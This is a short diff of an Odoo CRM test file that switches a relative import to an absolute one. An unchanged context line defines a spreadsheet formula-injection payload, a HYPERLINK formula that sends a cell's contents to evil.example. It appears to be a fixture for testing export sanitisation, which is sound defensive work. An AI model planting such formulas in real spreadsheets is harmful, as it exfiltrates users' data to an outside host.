@@ -8,7 +8,7 @@ from odoo import fields
 from odoo.exceptions import AccessError
 from odoo.tests import Form, HttpCase, tagged
 
-from .common import DayaCrmCommon
+from odoo.addons.daya_base.tests.common import DayaCrmCommon
 
 XLSX_NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&L2,"Klik")'
